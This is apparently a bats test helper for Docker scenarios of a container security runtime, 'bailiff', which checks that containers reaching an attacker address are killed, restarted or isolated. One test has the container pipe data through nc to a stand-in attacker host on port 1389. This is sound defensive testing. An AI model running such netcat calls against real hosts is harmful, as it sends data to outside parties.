# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
# shellcheck disable=SC2154 # status and output are bats' own
#
# What the stories of Docker share: one container, 'shop', at a time.

# shellcheck source=tests/harness/engine_docker.sh
source "$E2E_DIR/../harness/engine_docker.sh"

# For setup_file, behind story_open.
docker_story_open() {
  export RUNTIME=$SCRATCH/runc-bounded
  bounded_runtime "$RUNTIME"
  docker_open "$ROOTFS"
}

# For teardown.
docker_story_quiet() {
  local -a all
  mapfile -t all < <(docker ps --all --quiet)
  ((${#all[@]} == 0)) || docker rm --force "${all[@]}"
  story_quiet
}

# protects [JQ]: dockerd takes examples/docker/daemon.json for this service.
# shellcheck disable=SC2120 # some files pass none
protects() {
  local config
  config=$(jq --arg path "$BAILIFF_BIN/bailiff-runc" \
    --arg service "$SVC/bailiff.yaml" '.runtimes.bailiff =
      {path: $path, runtimeArgs: ["--bailiff-config", $service]}
      | '"${1:-.}" "$REPO_DIR/examples/docker/daemon.json")
  docker_reload "$config"
  wait_until 10 "dockerd to take it" docker_has_runtime
}
docker_has_runtime() {
  docker info --format '{{json .Runtimes.bailiff}}' | grep -F "$SVC/"
}

# shop [FLAG of docker run...] -- COMMAND...
shop() {
  local flags=()
  while [[ $1 != -- ]]; do
    flags+=("$1")
    shift
  done
  shift
  docker run --name shop "${flags[@]}" registry.example/shop:1.4 "$@"
}

# docker_says TEMPLATE WANTED: of the container 'shop'.
docker_says() { [[ $(docker inspect --format "$1" shop) == "$2" ]]; }

# in_shop_connect ADDRESS
in_shop_connect() {
  local command
  mapfile -d '' -t command < <(connects_to "$1")
  docker exec shop "${command[@]}"
}

# comes_back POLICY: twice the container is killed and twice it is back, with
# new processes only.
comes_back() {
  service "$KILL_POLICY"
  protects
  shop --detach --restart "$1" -- sleep 300
  for count in 1 2; do
    docker exec --detach shop sleep 400
    run in_shop_connect "$ATTACKER4"
    wait_until 20 "Docker to start it again" docker_says \
      '{{.RestartCount}} {{.State.Status}}' "$count running"
    run -0 docker top shop -eo pid,args
    [[ $output != *"sleep 400"* ]]
  done
  (($(attacker_packets) == 0))
  event "$C2_RULE" '.bailiff.outcome == "killed"'
  run -0 bailiff_api ps
  says shop
}

# is_killed [FLAG of docker run...]: Docker knows, and nothing is left.
is_killed() {
  service "$KILL_POLICY"
  protects
  local id
  run shop "$@" -- sh -c "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
  ((status == 137))
  (($(attacker_packets) == 0))
  id=$(docker inspect --format '{{.Id}}' shop)
  event "$C2_RULE" ".bailiff.container.id == \"$id\"
    and .bailiff.policy == \"$BLOCK_POLICY\"
    and .bailiff.verdict == \"denied\" and .bailiff.outcome == \"killed\""
  docker_says '{{.State.Status}} {{.State.ExitCode}}' "exited 137"
  docker rm shop
  nothing_left_of "$id"
}

# is_isolated [FLAG of docker run...]: and released.
is_isolated() {
  service "$REFUSE_POLICY"
  protects
  shop --detach "$@" -- sleep 300
  run -0 bailiff_api isolate shop
  run in_shop_connect "$HARMLESS4"
  says "Operation not permitted"
  run -0 bailiff_api release shop
  run in_shop_connect "$HARMLESS4"
  says reached
}
